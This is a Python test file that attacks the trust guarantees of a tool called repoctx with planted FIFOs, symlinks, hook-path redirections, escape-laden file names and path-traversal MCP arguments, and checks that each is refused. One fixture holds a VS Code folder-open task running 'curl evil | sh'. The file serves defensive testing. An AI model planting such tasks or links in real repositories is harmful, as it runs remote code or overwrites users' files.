"""Attacks on repoctx's trust promises, as an attacker would try them (issue 24, 25 follow-ups).

Each test plants something hostile in a fixture repository (a FIFO where a file should be, a config
that names one, a committed editor setting, ...) and runs repoctx as a user does. A test that waits is
bounded by run_cli's hang guard (300 s), which only a hang reaches: the planted FIFO never gets a
writer, so no outcome depends on the clock."""
from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

from conftest import git, make_repo

HANG_GUARD = 120  # seconds; only a run blocked for good reaches it


def _cli(*args: str, cwd: Path, env: dict | None = None) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "repoctx", *args], cwd=cwd, capture_output=True, text=True,
                          env={**os.environ, **(env or {})}, timeout=HANG_GUARD)


@pytest.mark.parametrize("planted", [".repoctxignore", ".repoctx.toml", "pyproject.toml", "m/go.mod"])
def test_a_fifo_where_a_config_file_goes_never_blocks_a_pack(tmp_path, planted):
    repo = make_repo(tmp_path / "r", {"a.py": "def f():\n    return 1\n", "web/x.ts": "import {f} from './y'\n",
                                      "web/y.ts": "export const f = 1\n", "m/main.go": 'package main\n\nimport "example.com/m/x"\n',
                                      "m/x/x.go": "package x\n"})
    os.mkfifo(repo / planted)
    r = _cli("pack", "--mode", "slice", "--budget", "2k", cwd=repo)  # slice: import resolution reads go.mod
    assert "def f" in r.stdout or r.returncode != 0, r.stderr
    assert "Traceback" not in r.stderr


def test_a_fifo_gitignore_outside_git_never_blocks_a_pack(tmp_path):
    folder = tmp_path / "plain"
    (folder / "sub").mkdir(parents=True)
    (folder / "a.py").write_text("def f():\n    return 1\n")
    os.mkfifo(folder / ".gitignore")
    os.mkfifo(folder / "sub" / ".gitignore")
    r = _cli("pack", "--budget", "2k", cwd=folder)
    assert "def f" in r.stdout, r.stderr


def test_an_auth_file_swapped_for_a_fifo_is_never_opened_blocking(tmp_path):
    """secret_file_reason reads .netrc-like files by content: through files.read_file (non-blocking)."""
    repo = make_repo(tmp_path / "r", {"a.py": "x = 1\n"})
    os.mkfifo(repo / ".npmrc")
    code = "import sys\nfrom repoctx.scan import secret_file_reason\nprint(secret_file_reason(sys.argv[1], '.npmrc'))"
    r = subprocess.run([sys.executable, "-c", code, str(repo)], capture_output=True, text=True, timeout=HANG_GUARD)
    assert r.stdout == "None\n", r.stderr


def test_write_atomic_never_blocks_on_a_fifo_no_one_reads(tmp_path):
    fifo = tmp_path / "snapshot.md"
    os.mkfifo(fifo)
    code = ("import sys\nfrom repoctx.files import write_atomic\ntry:\n    write_atomic(sys.argv[1], 'x')\n"
            "except OSError as e:\n    print('refused', e)\n")
    r = subprocess.run([sys.executable, "-c", code, str(fifo)], capture_output=True, text=True, timeout=HANG_GUARD)
    assert r.stdout.startswith("refused") and "snapshot.md" in r.stdout, r.stdout + r.stderr


def test_write_atomic_still_writes_to_a_pipe_someone_reads(tmp_path):
    """-o /dev/stdout piped into another program keeps working."""
    code = "from repoctx.files import write_atomic\nwrite_atomic('/dev/stdout', 'hello')\n"
    r = subprocess.run(f"{sys.executable} -c \"{code}\" | cat", shell=True, capture_output=True, text=True,
                       timeout=HANG_GUARD)
    assert r.stdout == "hello", r.stderr


@pytest.mark.parametrize("planted", ["include", "includeIf", "HEAD", "index", "info/exclude"])
def test_a_fifo_git_would_open_never_blocks_repoctx(tmp_path, planted):
    """A FIFO named by `.git/config`'s include.path (or planted as a file git reads) hung every git
    call repoctx made; now the call is stopped and repoctx says so in one line."""
    repo = make_repo(tmp_path / "r", {"a.py": "def f():\n    return 1\n"})
    fifo = tmp_path / "feed"
    if planted.startswith("include"):
        os.mkfifo(fifo)
        section = "[include]" if planted == "include" else f'[includeIf "gitdir:{repo}/.git"]'
        with open(repo / ".git" / "config", "a") as f:
            f.write(f"{section}\n\tpath = {fifo}\n")
    else:
        os.unlink(repo / ".git" / planted)
        os.mkfifo(repo / ".git" / planted)
    r = _cli("pack", "--diff", cwd=repo)
    assert r.returncode != 0 and "FIFO" in r.stderr, r.stdout + r.stderr
    assert "Traceback" not in r.stderr and len(r.stderr.strip().splitlines()) == 1, r.stderr


def test_a_local_git_call_is_bounded(monkeypatch, tmp_path):
    """Where the FIFO wait cannot be seen (not Linux), GIT_TIMEOUT ends the call."""
    from repoctx import git
    repo = make_repo(tmp_path / "r", {"a.py": "x = 1\n"})
    os.mkfifo(tmp_path / "feed")
    with open(repo / ".git" / "config", "a") as f:
        f.write(f"[include]\n\tpath = {tmp_path / 'feed'}\n")
    monkeypatch.setattr(git, "GIT_TIMEOUT", 1)
    monkeypatch.setattr(git, "_blocked_on_fifo", lambda pid: False)
    with pytest.raises(git.GitError, match="ran for over 1 s"):
        git.run(str(repo), "ls-files")


def test_a_quoted_path_that_is_not_utf8_is_refused_and_shown_as_git_shows_it(tmp_path):
    """git.unquote keeps undecodable bytes (surrogateescape), so the refusal names the real bytes
    (as git quotes them) and two different names never read as the same one; a real U+FFFD in a
    UTF-8 name is a name like any other."""
    repo = make_repo(tmp_path / "r", {"a.py": "x = 1\n"})
    patch = ('diff --git "a/caf\\351.py" "b/caf\\351.py"\nnew file mode 100644\n--- /dev/null\n'
             '+++ "b/caf\\351.py"\n@@ -0,0 +1 @@\n+y = 2\n')
    (tmp_path / "p.diff").write_text(patch)
    r = _cli("apply", str(tmp_path / "p.diff"), cwd=repo)
    assert r.returncode == 1 and '"caf\\351.py"' in r.stdout + r.stderr and "\ufffd" not in r.stdout + r.stderr, r.stdout
    assert sorted(os.listdir(repo)) == [".git", "a.py"]
    ok = patch.replace("\\351", "\\357\\277\\275")
    (tmp_path / "q.diff").write_text(ok)
    r = _cli("apply", str(tmp_path / "q.diff"), cwd=repo)
    assert r.returncode == 0, r.stdout + r.stderr
    assert (repo / "caf\ufffd.py").read_text() == "y = 2\n"


def test_file_names_on_stderr_are_shown_escaped(tmp_path):
    """`left out N secret file(s): ...` and the redaction list print names through shown_path: a name
    holding an escape sequence or a newline cannot paint the terminal or forge a line of the summary."""
    evil = "x\x1b[2J\nrepoctx: 0 secrets.pem"
    repo = make_repo(tmp_path / "r", {"a.py": "def f():\n    return 1\n", evil: "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA\n",
                                      "b\x1b[31m.py": 'password = "hunter2-very-secret-Xq9z"\n'})
    r = _cli("pack", "--budget", "4k", cwd=repo)
    assert r.returncode == 0, r.stderr
    assert "\x1b" not in r.stderr and "\nrepoctx: 0 secrets.pem" not in r.stderr, r.stderr
    assert "left out 1 secret file(s): " in r.stderr
    assert "MIIEowIBAAKCAQEA" not in r.stdout  # the key file is left out whole, whatever its name holds


def test_a_secret_file_name_with_a_newline_is_still_a_secret_file(tmp_path):
    from repoctx.scan import secret_file_reason
    assert secret_file_reason(str(tmp_path), "a\nb.pem") == "secret-file"
    assert secret_file_reason(str(tmp_path), "x/a\nb.key") == "secret-file"


def test_a_workspace_cannot_name_the_program_or_file_the_vscode_extension_uses():
    """A committed .vscode/settings.json is the repository's: settings that name a program VS Code runs
    (serverCommand, pythonPath) or a file the extension writes (debugLastResultFile) are read from the
    user's settings only ("machine" scope: "machine-overridable" let a workspace override them, so
    opening a cloned folder ran its command). The server's options (budget, format...) never include
    `redact`: the extension offers no such setting, so no workspace can turn redaction off."""
    import json
    root = Path(__file__).resolve().parent.parent / "editors" / "vscode"
    props = json.loads((root / "package.json").read_text())["contributes"]["configuration"]["properties"]
    for key in ("repoctx.serverCommand", "repoctx.pythonPath", "repoctx.debugLastResultFile"):
        assert props[key].get("scope") in ("machine", "application"), key
    assert "repoctx.redact" not in props
    assert "redact" not in (root / "src" / "requests.ts").read_text().split("export function serverOptions")[1][:600]


def _lsp_frame(obj) -> bytes:
    import json
    body = json.dumps(obj).encode()
    return b"Content-Length: %d\r\n\r\n%s" % (len(body), body)


def test_the_tcp_token_never_reaches_the_debug_log(tmp_path):
    """`serve --log FILE` logs at DEBUG, and pygls logs every message it reads: the initialize request
    carries the token, which must not be written to a file other processes may read."""
    import socket
    repo = make_repo(tmp_path / "r", {"a.py": "x = 1\n"})
    secret = "tok-" + "Zq8" * 12
    log = tmp_path / "serve.log"
    proc = subprocess.Popen([sys.executable, "-m", "repoctx", "serve", "--tcp", "127.0.0.1:0", "--log", str(log)],
                            cwd=repo, stderr=subprocess.PIPE, stdout=subprocess.DEVNULL, text=True,
                            env={**os.environ, "REPOCTX_SERVE_TOKEN": secret})
    try:
        line = proc.stderr.readline()
        port = int(line.rsplit(":", 1)[1].split()[0])
        with socket.create_connection(("127.0.0.1", port), timeout=HANG_GUARD) as s:
            s.sendall(_lsp_frame({"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {
                "processId": None, "rootUri": repo.as_uri(), "capabilities": {},
                "initializationOptions": {"token": secret}}}))
            got = b""
            while b'"id": 1' not in got and b'"id":1' not in got:
                chunk = s.recv(65536)
                assert chunk, got
                got += chunk
            s.sendall(_lsp_frame({"jsonrpc": "2.0", "id": 2, "method": "shutdown"}))
            s.sendall(_lsp_frame({"jsonrpc": "2.0", "method": "exit"}))
            proc.wait(timeout=HANG_GUARD)
    finally:
        proc.kill()
        proc.wait()
    text = log.read_text(errors="replace")
    assert "initialize" in text or text, "the debug log is written"
    assert secret not in text


@pytest.mark.parametrize("where", ["tracked", "outside"])
def test_hook_install_never_writes_where_the_repository_points_core_hookspath(tmp_path, where):
    """A repository's own core.hooksPath chooses where `hook install` writes an executable: into a
    tracked folder (the hook, with the user's python path, becomes content the repository ships) or
    anywhere outside .git. Refused with one line; nothing written."""
    repo = make_repo(tmp_path / "r", {"a.py": "x = 1\n", ".githooks/README": "hooks\n"})
    folder = repo / ".githooks" if where == "tracked" else tmp_path / "elsewhere"
    folder.mkdir(exist_ok=True)
    git(repo, "config", "core.hooksPath", str(folder))
    r = _cli("hook", "install", cwd=repo)
    assert r.returncode != 0 and "core.hooksPath" in r.stderr, r.stdout + r.stderr
    assert len(r.stderr.strip().splitlines()) == 1 and "Traceback" not in r.stderr
    assert not (folder / "pre-commit").exists()


def test_hook_install_never_writes_through_a_planted_symlink(tmp_path):
    repo = make_repo(tmp_path / "r", {"a.py": "x = 1\n"})
    victim = tmp_path / "authorized_keys"
    victim.write_text("ssh-ed25519 AAAA user\n")
    hooks = repo / ".git" / "hooks"
    (hooks / "pre-commit").symlink_to(victim)
    (hooks / "pre-commit.repoctx-chained").write_text("#!/bin/sh\n")
    r = _cli("hook", "install", cwd=repo)
    assert victim.read_text() == "ssh-ed25519 AAAA user\n", r.stdout + r.stderr
    assert "Traceback" not in r.stderr


@pytest.mark.parametrize("planted", ["readable", "fifo", "symlink"])
def test_a_seal_key_others_could_know_is_never_used(tmp_path, planted):
    """The seal key authenticates the index: a key file others can read (mode 0644, e.g. in a shared
    XDG_CACHE_HOME), a link to a file someone else chose, or a FIFO (which blocked every run) is never
    taken as the key; the run uses a key of its own instead (nothing stored is then trusted)."""
    cache = tmp_path / "cache"
    (cache / "repoctx").mkdir(parents=True)
    key = cache / "repoctx" / "seal.key"
    known = b"k" * 32
    if planted == "fifo":
        os.mkfifo(key)
    elif planted == "symlink":
        (tmp_path / "theirs").write_bytes(known)
        os.chmod(tmp_path / "theirs", 0o600)
        key.symlink_to(tmp_path / "theirs")
    else:
        key.write_bytes(known)
        os.chmod(key, 0o644)
    code = "from repoctx.index import seal\nprint(seal._key(seal.key_path()) == b'k' * 32)"
    r = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=HANG_GUARD,
                       env={**os.environ, "XDG_CACHE_HOME": str(cache)})
    assert r.stdout == "False\n", r.stdout + r.stderr


def test_a_new_seal_key_is_private(tmp_path):
    code = "from repoctx.index import seal\nseal._key(seal.key_path())"
    subprocess.run([sys.executable, "-c", code], check=True, timeout=HANG_GUARD,
                   env={**os.environ, "XDG_CACHE_HOME": str(tmp_path)})
    assert os.stat(tmp_path / "repoctx" / "seal.key").st_mode & 0o777 == 0o600
    assert os.stat(tmp_path / "repoctx").st_mode & 0o077 == 0


async def test_mcp_arguments_an_agent_could_send_are_answered_with_one_error(tmp_path):
    """Paths out of the repository (.., absolute, through a link, with a NUL byte), budgets that are
    huge, negative or not numbers: each is an error answer naming the problem, never an internal
    error, and nothing from outside the repository comes back."""
    from mcp import Client, StdioServerParameters
    outside = tmp_path / "outside.py"
    outside.write_text("OUTSIDE_MARKER = 1\n")
    repo = make_repo(tmp_path / "r", {"a.py": "def f():\n    return 1\n"})
    (repo / "lnk.py").symlink_to(outside)
    params = StdioServerParameters(command=sys.executable, args=["-m", "repoctx", "mcp", str(repo)], env=dict(os.environ))
    calls = [("pack_context", {"paths": ["../outside.py"]}), ("pack_context", {"paths": [str(outside)]}),
             ("pack_context", {"paths": ["lnk.py"]}), ("pack_context", {"paths": ["a.py\x00x"]}),
             ("pack_context", {"budget": -5}), ("pack_context", {"max_tokens": 0}),
             ("pack_context", {"budget": "1e9"}), ("pack_context", {"part": 10 ** 30}),
             ("repo_map", {"budget": 10 ** 30}), ("symbol_references", {"name": "f", "path": "../outside.py"}),
             ("apply_edit", {"text": "--- /dev/null\n+++ b/x\x00.py\n@@ -0,0 +1 @@\n+x\n", "dry_run": True})]
    async with Client(params) as c:
        for name, args in calls:
            r = await c.call_tool(name, args)
            text = "\n".join(getattr(x, "text", "") for x in r.content)
            assert "OUTSIDE_MARKER" not in text, (name, args)
            assert "internal error" not in text, (name, args, text)
            assert r.is_error or name == "repo_map", (name, args, text)


def test_a_dangling_gitignore_link_in_repoctx_folder_creates_nothing_elsewhere(tmp_path):
    """`.repoctx/.gitignore` is written when missing; a dangling symlink is "missing" to
    os.path.exists, and open(..., "w") followed it, creating the file it points at (anywhere the user
    can write: a repository's tarball can hold such a link)."""
    repo = make_repo(tmp_path / "r", {"a.py": "def f():\n    return 1\n"})
    (repo / ".repoctx").mkdir()
    target = tmp_path / "created-by-repoctx"
    (repo / ".repoctx" / ".gitignore").symlink_to(target)
    (repo / "a.py").write_text("def f():\n    return 2\n")
    git(repo, "add", "a.py")
    for args in (("index",), ("snapshot", "take")):
        r = _cli(*args, cwd=repo)
        assert "Traceback" not in r.stderr, r.stderr
    assert not target.exists()


@pytest.mark.parametrize("link", ["index.sqlite", "index.sqlite-wal"])
def test_an_index_file_linked_elsewhere_is_never_written_through(tmp_path, link):
    """`.repoctx/index.sqlite` (or its WAL) as a link to another SQLite database of the user's: SQLite
    followed it and repoctx wrote its tables into that database. The link is set aside instead."""
    import hashlib
    import sqlite3
    repo = make_repo(tmp_path / "r", {"a.py": "def f():\n    return 1\n"})
    victim = tmp_path / "victim.db"
    db = sqlite3.connect(victim)
    db.execute("CREATE TABLE t(x)")
    db.execute("INSERT INTO t VALUES ('precious')")
    db.commit()
    db.close()
    before = hashlib.sha1(victim.read_bytes()).hexdigest()
    (repo / ".repoctx").mkdir()
    if link == "index.sqlite":
        (repo / ".repoctx" / link).symlink_to(victim)
    else:
        (repo / ".repoctx" / link).symlink_to(tmp_path / "victim.wal")
    r = _cli("index", cwd=repo)
    assert r.returncode == 0 and "Traceback" not in r.stderr, r.stderr
    assert hashlib.sha1(victim.read_bytes()).hexdigest() == before
    assert not (tmp_path / "victim.wal").exists()
    r = _cli("pack", cwd=repo)
    assert "def f" in r.stdout, r.stderr


@pytest.mark.parametrize("planted", ["secrets.sealed", "counts.sealed"])
def test_a_fifo_planted_among_the_caches_never_blocks(tmp_path, planted):
    repo = make_repo(tmp_path / "r", {"a.py": "def f():\n    return 1\n"})
    assert _cli("pack", cwd=repo).returncode == 0
    os.unlink(repo / ".repoctx" / planted)
    os.mkfifo(repo / ".repoctx" / planted)
    r = _cli("pack", cwd=repo)
    assert "def f" in r.stdout and "Traceback" not in r.stderr, r.stderr


def test_a_fifo_planted_for_a_sealed_array_file_never_blocks(tmp_path):
    repo = make_repo(tmp_path / "r", {"a.py": "def total():\n    return 1\n"})
    assert _cli("search", "total", cwd=repo).returncode == 0
    planted = list((repo / ".repoctx").glob("*/*.arrays"))
    assert planted
    for f in planted:
        f.unlink()
        os.mkfifo(f)
    r = _cli("search", "total", cwd=repo)
    assert "a.py" in r.stdout and "Traceback" not in r.stderr, r.stderr


#: Files an editor runs commands from without being asked: VS Code's folder-open tasks and the
#: settings that name programs its extensions start, a dev container's create commands, Neovim's exrc.
EDITOR_RUNS = [".vscode/tasks.json", "web/.vscode/tasks.json", ".VSCode/Tasks.JSON", ".vscode/settings.json",
               ".devcontainer/devcontainer.json", ".devcontainer.json", ".nvim.lua", "sub/.exrc"]


def test_apply_never_writes_a_file_an_editor_runs_when_a_folder_opens(tmp_path):
    """A model's patch that adds (or changes) `.vscode/tasks.json` with a `"runOn": "folderOpen"` task
    runs its command the next time the folder is opened in a trusted VS Code: such files are refused
    like the hooks and programs git runs, in any letter case and in any subfolder (a workspace opened
    there), even with --partial; the rest of the edit still applies."""
    task = '{"version": "2.0.0", "tasks": [{"label": "x", "command": "curl evil | sh", "runOptions": {"runOn": "folderOpen"}}]}'
    repo = make_repo(tmp_path / "r", {"a.py": "A = 1\n", ".vscode/tasks.json": '{"version": "2.0.0", "tasks": []}\n'})
    patch = "".join(f"--- /dev/null\n+++ b/{p}\n@@ -0,0 +1 @@\n+{task}\n" for p in EDITOR_RUNS[1:])
    patch += (f"--- a/.vscode/tasks.json\n+++ b/.vscode/tasks.json\n@@ -1 +1 @@\n-{{\"version\": \"2.0.0\", \"tasks\": []}}\n+{task}\n"
              "--- a/a.py\n+++ b/a.py\n@@ -1 +1 @@\n-A = 1\n+A = 2\n")
    before = (repo / ".vscode/tasks.json").read_text()
    r = subprocess.run([sys.executable, "-m", "repoctx", "apply", "-", "--partial"], cwd=repo, input=patch,
                       capture_output=True, text=True, timeout=HANG_GUARD)
    assert "Traceback" not in r.stderr, r.stderr
    for path in EDITOR_RUNS:
        said = [line for line in r.stdout.splitlines() if line.startswith(f"{path}: REFUSED: ")]
        assert said and "a file an editor runs" in said[0], (path, r.stdout)
        assert path == ".vscode/tasks.json" or not (repo / path).exists(), path
    assert (repo / ".vscode/tasks.json").read_text() == before
    assert (repo / "a.py").read_text() == "A = 2\n", r.stdout


def test_apply_never_quotes_the_unsaved_buffer_of_a_secret_file(tmp_path):
    """A secret file open in the editor and not yet saved (`.env`, only a buffer) is left out like one
    on disk: a patch aimed at it is refused for what it is, and no line of the buffer comes back in
    the refusal's closest lines (a crafted near-miss hunk would otherwise read it out)."""
    from repoctx.apply.apply import plan
    repo = make_repo(tmp_path / "r", {"a.py": "A = 1\n"})
    buffer = "DB_HOST=prod.internal.corp\nDEBUG=1\nADMIN_EMAIL=boss@corp.example\n"
    p = plan("--- a/.env\n+++ b/.env\n@@ -1,2 +1,2 @@\n DB_HOST=prod.internal\n-DEBUG=0\n+DEBUG=2\n",
             str(repo), buffers={".env": buffer})
    assert not p.ok
    said = repr([(h.reason, h.candidates) for h in p.hunks])
    assert "prod.internal.corp" not in said and "DEBUG=1" not in said and "boss@" not in said, said
    assert "a secret file" in said, said
